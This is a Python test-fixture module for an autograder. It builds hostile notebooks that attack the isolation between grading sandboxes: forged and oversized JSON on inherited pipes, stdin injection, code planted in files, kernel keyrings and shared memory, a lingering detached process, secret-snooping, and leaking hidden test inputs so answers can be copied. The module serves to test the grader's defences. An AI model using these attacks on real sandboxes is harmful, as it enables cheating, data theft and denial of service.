"""Hostile notebooks that go for the channels between sandboxes and the grader (issue 29), as a class folder.

One worker grades a class in name order: the attackers (`a-*`) first, then the victims (`m-victim-*`, honest
notebooks that print a secret of their own), a snoop (`x-snoop`, which looks for anything the victims left), an
accomplice (`y-accomplice`: no solution code of its own; each solution cell runs whatever code an attacker planted
for it, and raises where nothing was planted) and a sentinel (`z-sentinel`, honest). The chapter (06) switches no
built-in off, so there is no guard and the attackers may use ctypes and exec. Used by tests/test_warm_sandbox.py,
in every mode (warm and cold; root and unprivileged; memory groups on and off), and by
scripts/isolation_attacks.py, which grades each attack alone to show what it does on a given version of the grader.

Each attacker is the reference notebook (its own functions are right) plus one attack cell; its own score must
stay the honest one (full), the victims and the sentinel keep full marks and their secrets, the accomplice keeps
the blank score (0), and the grader's memory stays under MEMORY_BOUND.
"""

import nbformat

from autograder.authoring import demo
from test_grading_safety import add_cell

CHAPTER = "06-positional-encoding"
FULL = 14.0
BLANK = 0.0
SECRET = "victim-secret-"  # + the victim's name: printed by the victim, in no other student's outputs
MEMORY_BOUND_MIB = 1024  # the grader's peak resident memory (largest process of the grading run), asserted

# Common to every attack: the job folder, this notebook's solution code (what an attacker plants for the
# accomplice), and the runner's own records of this notebook's probes (what a forger sends for another job).
ATTACK_KIT = r'''
import glob, json, os, sys, zlib, base64
import numpy as np

def _job_folder():
    for folder in ["/job"] + sorted(glob.glob("/jobs/*")):
        if os.path.exists(folder + "/job.json"):
            return folder

def _job():
    with open(_job_folder() + "/job.json") as f:
        return json.load(f)

def _payload():
    """This notebook's solution cells (they start with def or class), packed."""
    sources = [c["source"] for c in _job()["cells"] if c["kind"] == "code" and c["source"].lstrip().startswith(("def ", "class "))]
    return "COURSE-PLANT:" + base64.b64encode(zlib.compress(json.dumps(sources).encode(), 9)).decode()

def _runner():
    return sys.modules.get("course_runner") or sys.modules["__main__"]

def _records():
    """Every record the runner sends for this notebook, made again with its own code (right answers)."""
    job, runner = _job(), _runner()
    arrays = dict(np.load(_job_folder() + "/inputs.npz"))
    out = []
    for cell in job["cells"]:
        out.append({"event": "start", "cell": cell["index"]})
        if cell["kind"] == "probe":
            probe = job["probes"][cell["probe"]]
            fn = globals().get(probe["function"])
            calls = [runner.run_call(fn, call, arrays, probe["forbidden"], globals(), probe.get("callees", ())) for call in probe["calls"]]
            out.append({"event": "probe", "cell": cell["index"], "calls": calls})
        out.append({"event": "done", "cell": cell["index"], "ok": True, "error": None, "stdout": "", "stderr": ""})
    out.append({"event": "end"})
    return out

def _pipes():
    """Every inherited descriptor that is a pipe or socket (the report channel, the template's stdin...)."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink("/proc/self/fd/" + name)
        except OSError:
            continue
        if target.startswith(("pipe:", "socket:")):
            found.append(int(name))
    return found

def _write_everywhere(data):
    """data on every pipe this process holds, and on each one opened again for writing through /proc."""
    for fd in _pipes():
        for how in ("fd", "reopen"):
            try:
                if how == "fd":
                    os.write(fd, data)
                else:
                    w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                    try:
                        os.write(w, data)
                    finally:
                        os.close(w)
            except OSError:
                pass

import ctypes
try:
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.syscall.restype = ctypes.c_long
except Exception:
    _libc = None
KEYRINGS = {"user": -4, "user-session": -5, "session": -3}
'''

# --- Category 1: the report channel -------------------------------------------------------------------------
NESTED = '"[" * 100000 + "]" * 100000 + "\\n"'

NESTED_FORGE = ATTACK_KIT + r'''
# A line that the grader's JSON reader cannot parse without a RecursionError, then records for the next job: a
# "forked" record with the next child's likely pid, and this notebook's right answers for every cell.
pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
forged = [{"event": "forked", "pid": max(pids) + k} for k in (2, 3, 1)] + _records()
data = (''' + NESTED + r''' + "".join(json.dumps(r) + "\n" for r in forged)).encode()
_write_everywhere(data)
'''

NESTED_POISON = ATTACK_KIT + r'''
# Many lines that each stop the grader's JSON reader: if the channel outlives this job, each later job reads one.
_write_everywhere(((''' + NESTED + r''') * 60).encode())
'''

GIANT_LINE = ATTACK_KIT + r'''
# One line of 1 GiB with no newline, written in pieces (this process stays small): a reader that keeps a whole line
# before counting it holds 1 GiB.
chunk = b"x" * (16 * 2**20)
for fd in _pipes():
    try:
        for _ in range(64):
            os.write(fd, chunk)
        break
    except OSError:
        continue
'''

BAD_SHAPES = ATTACK_KIT + r'''
# Records of the runner's events with fields of the wrong types and sizes (for cells that do not exist, so that only
# a grader that fails on them could lose anything): the grader must grade this notebook, not fail on it.
bad = [{"event": "start", "cell": [1]}, {"event": "done", "cell": 999, "ok": "yes", "stdout": {"a": [1] * 10}, "stderr": 7},
       {"event": "probe", "cell": 998, "calls": {"not": "a list"}}, {"event": "probe", "cell": 997, "calls": [7, None, "x"]},
       {"event": "probe", "cell": 996, "calls": [{"ok": True, "outputs": {"tensor": {"npy": "!!", "shape": "x"}}}]},
       {"event": "done", "cell": 10**30}, {"event": "start", "cell": True}, {"event": "guard", "names": 5}, [1, 2, 3], "text"]
_write_everywhere("".join(json.dumps(r) + "\n" for r in bad).encode())
'''

# --- Category 2: what a child inherits ----------------------------------------------------------------------
STDIN_INJECT = ATTACK_KIT + r'''
# Requests written into the template's standard input (held as descriptor 0, opened again through /proc for writing):
# jobs in the next students' slots, a "go", junk. Saying so in this notebook's own feedback if it got through.
lines = "".join(json.dumps(r) + "\n" for n in range(0, 40) for r in ({"run": str(n)}, {"go": "g"})) + "junk\n"
try:
    if os.readlink("/proc/self/fd/0").startswith(("pipe:", "socket:")):
        w = os.open("/proc/self/fd/0", os.O_WRONLY | os.O_NONBLOCK)
        os.write(w, lines.encode())
        os.close(w)
        print("REACHED the template's input (descriptor 0)")
except OSError:
    pass
'''

PLANT = ATTACK_KIT + r'''
# This notebook's code left in places that might be shared with a later notebook.
payload = _payload().encode()
for path in __PATHS__:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(payload)
    except OSError:
        pass
'''
PLANT_ROOT = PLANT.replace("__PATHS__", repr(("/course-plant", "/etc/course-plant", "/proc/self/cwd/course-plant")))
PLANT_DEV = PLANT.replace("__PATHS__", repr(("/dev/course-plant", "/dev/mqueue/course-plant", "/dev/pts/course-plant")))
PLANT_TMP = PLANT.replace("__PATHS__", repr(("/tmp/course-plant", "/dev/shm/course-plant")))

OUTLIVE = ATTACK_KIT + r'''
# A process that leaves this notebook's session and waits for the next notebook, then plants and forges.
payload, forged = _payload().encode(), "".join(json.dumps(r) + "\n" for r in _records()).encode()
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import time
            time.sleep(2.0)
            for path in ("/course-plant", "/dev/course-plant", "/tmp/course-plant"):
                try:
                    open(path, "wb").write(payload)
                except OSError:
                    pass
            for _ in range(100):
                _write_everywhere(forged)
                time.sleep(0.1)
        os._exit(0)
except OSError:
    pass
'''

# --- Category 3: the kernel's shared objects ----------------------------------------------------------------
KEYRING_PLANT = ATTACK_KIT + r'''
# This notebook's code as a key in the kernel's keyrings (add_key), where the next notebook may search.
payload = _payload().encode()
if _libc is not None:
    for ring in __RINGS__:
        if ring in KEYRINGS:
            made = _libc.syscall(248, b"user", b"course-plant", payload, len(payload), ctypes.c_long(KEYRINGS[ring]))
            print("add_key", ring, made, ctypes.get_errno(), "uid", os.getuid())
    persistent = _libc.syscall(250, 22, ctypes.c_long(-1), ctypes.c_long(-4))  # KEYCTL_GET_PERSISTENT into @u
    if "persistent" in __RINGS__ and persistent > 0:
        _libc.syscall(248, b"user", b"course-plant", payload, len(payload), ctypes.c_long(persistent))
'''

SYSV_IPC = ATTACK_KIT + r'''
# This notebook's code in System V shared memory and a POSIX message queue under fixed names.
payload = _payload().encode()
if _libc is not None:
    shm = _libc.shmget(0x434F5253, 1 << 20, 0o1000 | 0o666)
    if shm >= 0:
        _libc.shmat.restype = ctypes.c_void_p
        addr = _libc.shmat(shm, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(addr, payload + b"\0", len(payload) + 1)
    try:
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
        q = rt.mq_open(b"/course-plant", os.O_CREAT | os.O_WRONLY, 0o666, None)
        if q >= 0:
            rt.mq_send(q, payload[:8000], len(payload[:8000]), 0)
    except OSError:
        pass
'''

ATTACKS = {
    # category 1: the report channel
    "a-nested-forge": NESTED_FORGE,
    "a-nested-poison": NESTED_POISON,
    "a-giant-line": GIANT_LINE,
    "a-bad-shapes": BAD_SHAPES,
    # category 2: what a child inherits
    "a-stdin-inject": STDIN_INJECT,
    "a-plant-root": PLANT_ROOT,
    "a-plant-dev": PLANT_DEV,
    "a-plant-tmp": PLANT_TMP,
    "a-outlive": OUTLIVE,
    # category 3: the kernel's shared objects
    "a-keyring-user": KEYRING_PLANT.replace("__RINGS__", "['user']"),
    "a-keyring-session": KEYRING_PLANT.replace("__RINGS__", "['session', 'user-session']"),
    "a-keyring-persistent": KEYRING_PLANT.replace("__RINGS__", "['persistent']"),
    "a-sysv-ipc": SYSV_IPC,
}
CATEGORIES = {
    "report channel": ["a-nested-forge", "a-nested-poison", "a-giant-line", "a-bad-shapes"],
    "inheritance": ["a-stdin-inject", "a-plant-root", "a-plant-dev", "a-plant-tmp", "a-outlive"],
    "kernel": ["a-keyring-user", "a-keyring-session", "a-keyring-persistent", "a-sysv-ipc"],
}

# The accomplice's loader: every channel an attacker planted in, read back; what it finds runs in the solution cells.
LOADER = ATTACK_KIT + r'''
_PLANTED, _FOUND = None, []

def _unpack(text):
    global _PLANTED
    if isinstance(text, bytes):
        text = text.decode(errors="replace")
    if text and "COURSE-PLANT:" in text:
        packed = text.split("COURSE-PLANT:", 1)[1].split("\0")[0].strip()
        try:
            _PLANTED = json.loads(zlib.decompress(base64.b64decode(packed)))
            return True
        except Exception:
            return False
    return False

for path in ("/course-plant", "/dev/course-plant", "/etc/course-plant", "/tmp/course-plant", "/dev/shm/course-plant",
             "/dev/pts/course-plant", "/dev/mqueue/course-plant"):
    try:
        if _unpack(open(path, "rb").read()):
            _FOUND.append("file " + path)
    except OSError:
        pass
if _libc is not None:
    rings = dict(KEYRINGS)
    persistent = _libc.syscall(250, 22, ctypes.c_long(-1), ctypes.c_long(-4))
    if persistent > 0:
        rings["persistent"] = persistent
    for name, ring in rings.items():
        key = _libc.syscall(250, 10, ctypes.c_long(ring), b"user", b"course-plant", ctypes.c_long(0))  # KEYCTL_SEARCH
        if key > 0:
            buf = ctypes.create_string_buffer(1 << 20)
            n = _libc.syscall(250, 11, ctypes.c_long(key), buf, ctypes.c_long(1 << 20))  # KEYCTL_READ
            if n > 0 and _unpack(buf.raw[:n]):
                _FOUND.append("keyring " + name)
    shm = _libc.shmget(0x434F5253, 0, 0)
    if shm >= 0:
        _libc.shmat.restype = ctypes.c_void_p
        addr = _libc.shmat(shm, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value) and _unpack(ctypes.string_at(addr, 1 << 20)):
            _FOUND.append("System V shared memory")
    try:
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
        q = rt.mq_open(b"/course-plant", os.O_RDONLY | os.O_NONBLOCK)
        if q >= 0:
            buf = ctypes.create_string_buffer(1 << 16)
            n = rt.mq_receive(q, buf, 1 << 16, None)
            if n > 0 and _unpack(buf.raw[:n]):
                _FOUND.append("message queue")
    except OSError:
        pass
print("ACCOMPLICE FOUND:", _FOUND or "nothing")
if _PLANTED is not None:
    with open("/tmp/course_planted.py", "w") as f:
        f.write("import math\nimport torch\nfrom torch import Tensor, nn\n\n" + "\n\n".join(_PLANTED))
    sys.path.insert(0, "/tmp")
'''

# Each solution cell of the accomplice takes its function from what was planted (written out as a module by the
# loader: no exec or eval, which the static reading would hold against it).
USE_PLANTED = '''from course_planted import {name}
'''


def reference():
    return demo.filled_submission(CHAPTER)


def attacker(source):
    """The reference notebook with the attack as its last cell (after every check has run once)."""
    nb = reference()
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def victim(name):
    return add_cell(reference(), f"print('my secret is', {SECRET + name!r})", after="imports")


def snoop():
    """After the victims: looks for anything of theirs it can read (files, the job folders, inherited pipes)."""
    source = ATTACK_KIT + r'''
found, wanted = [], "victim-" + "secret-m"  # (not one literal: this cell's own source is in the job folder)
for root in ("/", "/dev", "/tmp", "/dev/shm", "/jobs", "/job", "/etc"):
    try:
        names = os.listdir(root)
    except OSError:
        continue
    for name in names:
        path = os.path.join(root, name)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 2**22:
                text = open(path, "rb").read().decode(errors="replace")
                if wanted in text:
                    found.append(text[text.index(wanted):][:60])
        except OSError:
            pass
for fd in _pipes():
    try:
        r = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
        data = os.read(r, 1 << 20).decode(errors="replace")
        os.close(r)
        if wanted in data:
            found.append(data[data.index(wanted):][:60])
    except OSError:
        pass
print("SNOOP FOUND:", found or "nothing")
'''
    return add_cell(reference(), source, after="imports")


def accomplice():
    """No solution code of its own: a loader cell after the imports, and every solution cell runs what was planted."""
    nb = reference()
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = USE_PLANTED.format(name=cell.metadata["nbgrader"]["grade_id"])
    return add_cell(nb, LOADER, after="imports")


def class_folder(root, attacks=None, victims=("m-victim-1", "m-victim-2")):
    """Write the class: the chosen attackers (default all), the victims, the snoop, the accomplice, the sentinel."""
    notebooks = {name: attacker(ATTACKS[name]) for name in (attacks if attacks is not None else ATTACKS)}
    notebooks.update({name: victim(name) for name in victims})
    notebooks["x-snoop"] = snoop()
    notebooks["y-accomplice"] = accomplice()
    notebooks["z-sentinel"] = reference()
    for student, nb in notebooks.items():
        path = root / student / CHAPTER / "exercises.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    return sorted(notebooks)


# --- Grading a class folder in one mode, through the real CLI --------------------------------------------------

MODES = {  # name: (warm, unprivileged, memory groups)
    "warm-root-groups": (True, False, True),
    "warm-root-nogroups": (True, False, False),
    "warm-unprivileged": (True, True, False),
    "cold-root-groups": (False, False, True),
    "cold-root-nogroups": (False, False, False),
    "cold-unprivileged": (False, True, False),
}
UNPRIVILEGED_UID = 65534  # nobody

# Runs the grader as a child and prints the peak resident memory of the largest process it waited for (the grading
# process, its workers and the sandboxes; each reaped process's peak is carried up to its parent).
_MEASURE = ("import resource, subprocess, sys\n"
            "code = subprocess.run(sys.argv[1:]).returncode\n"
            "print('PEAK_RSS_KIB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
            "sys.exit(code)\n")


def grade_class(root, workdir, mode, python, env, seed=3, timeout=1500):
    """Grade the folder `root` with one worker in `mode` (a key of MODES); returns the run's account:
    {"returncode", "stdout", "stderr", "peak_rss_mib", "results": {student: result dict}, "outputs": {student: text}}."""
    import json
    import os
    import re
    import subprocess

    warm, unprivileged, groups = MODES[mode]
    env = dict(env)
    env.pop("COURSE_WARM", None)
    if not warm:
        env["COURSE_WARM"] = "off"
    env["COURSE_MEMORY_GROUPS"] = "on" if groups else "off"
    argv = [python, "-c", _MEASURE, python, "-m", "autograder", "grade", str(root), "--workdir", str(workdir),
            "--device", "cpu", "--seed", str(seed), "--workers", "1", "--cell-timeout", "20"]
    if unprivileged:
        home = workdir.parent / "home"
        home.mkdir(exist_ok=True)
        for path in (workdir.parent, home, root, *root.rglob("*")):
            os.chown(path, UNPRIVILEGED_UID, UNPRIVILEGED_UID)
        env["HOME"] = str(home)
        argv = unprivileged_argv(argv, [python, env.get("PYTHONPATH", "")], workdir.parent / "view")
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=timeout)
    peak = re.search(r"PEAK_RSS_KIB (\d+)", done.stderr)
    results, outputs = {}, {}
    for path in (workdir / "results").glob(f"*/{CHAPTER}.json"):
        results[path.parent.name] = json.loads(path.read_text())["result"]
    for student in results:
        texts = [p.read_text(errors="replace") for p in (workdir / "feedback" / student).rglob("*") if p.is_file()]
        texts += [p.read_text(errors="replace") for p in (workdir / "autograded" / student).rglob("*.ipynb")]
        texts += [json.dumps(results[student])]
        outputs[student] = "\n".join(texts)
    try:
        sandbox_mode = json.loads((workdir / "last_run.json").read_text()).get("sandbox")
    except (OSError, ValueError):
        sandbox_mode = None
    return {"returncode": done.returncode, "stdout": done.stdout, "stderr": done.stderr, "sandbox": sandbox_mode,
            "peak_rss_mib": int(peak.group(1)) / 1024 if peak else None, "results": results, "outputs": outputs}


def unprivileged_argv(argv, needed, scratch):
    """argv run as uid 65534 (an instructor grading as themselves), in a mount namespace where the folders it needs
    (the course's Python, venv and code) can be reached: a folder that only root may enter on the way to one of them
    (a Python installed under /root, say) is replaced there by a world-readable tmpfs that shows only those paths.
    Nothing of the grader changes; only the test's way to give another user the same Python."""
    import os
    from pathlib import Path

    closed = {}  # a folder others may not enter -> its entries on the way to a needed path
    for path in needed:
        if not path:
            continue
        path = Path(os.path.realpath(path))
        for parent in [*reversed(path.parents), path][1:]:
            if not os.stat(parent).st_mode & 0o001:
                closed.setdefault(parent.parent if parent == path else parent, set())
                inside = path.relative_to(parent).parts
                if inside:
                    closed[parent].add(inside[0])
                break
    script = ["set -e"]
    for number, (folder, entries) in enumerate(sorted(closed.items())):
        original = scratch / f"original-{number}"
        original.mkdir(parents=True, exist_ok=True)
        script += [f"mount --bind '{folder}' '{original}'", f"mount -t tmpfs -o mode=755 tmpfs '{folder}'"]
        for entry in sorted(entries):
            script += [f"mkdir -p '{folder}/{entry}'", f"mount --bind '{original}/{entry}' '{folder}/{entry}'"]
    script.append(f'exec setpriv --reuid={UNPRIVILEGED_UID} --regid={UNPRIVILEGED_UID} --clear-groups "$@"')
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(script), "sh", *argv]


def harms(account, students):
    """What the attacks achieved in one graded class of `students`: a list of sentences (empty when every rule held).
    Every student must be graded (an `error` result is not saved, so it shows as no result) with the score of its own
    work, and no victim's secret may appear in another student's outputs."""
    import html
    import re

    results, outputs, found = account["results"], account["outputs"], []
    honest = {name: (BLANK if name == "y-accomplice" else FULL) for name in students}
    for student, expected in sorted(honest.items()):
        result = results.get(student)
        if result is None:
            found.append(f"{student}: no result")
        elif result.get("status") != "graded":
            found.append(f"{student}: {result.get('status')} ({(result.get('error') or '')[:120]})")
        elif result.get("score") != expected:
            found.append(f"{student}: {result.get('score')} points, its own work earns {expected}")
    for student, text in outputs.items():
        text = html.unescape(text)
        for victim in [s for s in students if s.startswith("m-victim")]:
            if victim != student and SECRET + victim in text:
                found.append(f"{victim}'s secret appears in {student}'s outputs")
        reached = re.search(r'(?<!")REACHED [^\n<]*', text)  # printed by an attack that got hold of the template's
        if reached:
            found.append(f"{student} {reached.group(0)}")
        if "ACCOMPLICE FOUND: [" in text:
            found.append("the accomplice found " + text.split("ACCOMPLICE FOUND: [", 1)[1].split("]", 1)[0][:200])
    if account["peak_rss_mib"] is not None and account["peak_rss_mib"] > MEMORY_BOUND_MIB:
        found.append(f"the grading run's largest process reached {account['peak_rss_mib']:.0f} MiB (bound {MEMORY_BOUND_MIB})")
    return found


# --- Category 5: hidden inputs printed into a feedback, answered elsewhere -------------------------------------
TABLED = ("sinusoidal_pe", "rotation_matrix", "alibi_bias")  # exercises whose hidden inputs are plain values

PRINT_INPUTS = r'''
import glob, json, os
folder = next(f for f in ["/job"] + sorted(glob.glob("/jobs/*")) if os.path.exists(f + "/job.json"))
job = json.load(open(folder + "/job.json"))
wanted = {p["function"]: [[c["args"], c["kwargs"], c.get("device", "cpu")] for c in p["calls"]]
          for p in job["probes"].values() if p["function"] in ''' + repr(TABLED) + r'''}
print("INPUTS:" + json.dumps(wanted) + ":END")
'''

LOOKUP = r'''
import json, torch
_TABLE = json.loads(TABLE_JSON)

def _key(args, kwargs):
    return json.dumps([repr(a) for a in args] + sorted([k, repr(v)] for k, v in kwargs.items()))

def _lookup(name, args, kwargs):
    entry = _TABLE[name].get(_key(args, kwargs))
    if entry is None:
        raise NotImplementedError("these inputs are not in the table")
    if "raises" in entry:
        raise ValueError(entry["raises"])
    dtype = getattr(torch, entry["dtype"])
    if entry["device"] == "meta":
        return torch.empty(entry["shape"], dtype=dtype, device="meta")
    return torch.tensor(entry["values"], dtype=dtype).reshape(entry["shape"])
'''


def decode_printed(spec, device):
    import torch

    if "value" in spec:
        return spec["value"]
    if "dtype" in spec:
        return getattr(torch, spec["dtype"])
    if "device" in spec:
        return torch.device(device)
    raise ValueError(f"not a plain value: {spec}")


def answer_table(printed, reference):
    """What a learner computes at home for the inputs another feedback printed: the reference's outputs (here from
    `reference`, a module with the functions; a friend's solution or the forbidden built-ins would do as well)."""
    import json

    table = {}
    for name, calls in printed.items():
        table[name] = {}
        for args, kwargs, device in calls:
            a = [decode_printed(s, device) for s in args]
            k = {key: decode_printed(s, device) for key, s in kwargs.items()}
            key = json.dumps([repr(x) for x in a] + sorted([n, repr(v)] for n, v in k.items()))
            try:
                out = getattr(reference, name)(*a, **k)
            except ValueError as exc:  # a case where the exercise must refuse its arguments
                table[name][key] = {"raises": str(exc)}
                continue
            table[name][key] = {"dtype": str(out.dtype).replace("torch.", ""), "shape": list(out.shape),
                                "device": out.device.type, "values": out.tolist() if out.device.type != "meta" else None}
    return table


def printer():
    nb = reference()
    nb.cells.append(nbformat.v4.new_code_cell(PRINT_INPUTS))
    return nb


def table_notebook(table):
    """The copier: no solution of its own; the tabled exercises answer from the table, the others are blank."""
    import json

    nb = reference()
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            name = meta.get("grade_id")
            if name in TABLED:
                cell.source = f"def {name}(*args, **kwargs):\n    return _lookup({name!r}, args, kwargs)\n"
            else:
                cell.source = "raise NotImplementedError('not done')\n"
    return add_cell(nb, LOOKUP.replace("TABLE_JSON", repr(json.dumps(table))), after="imports")
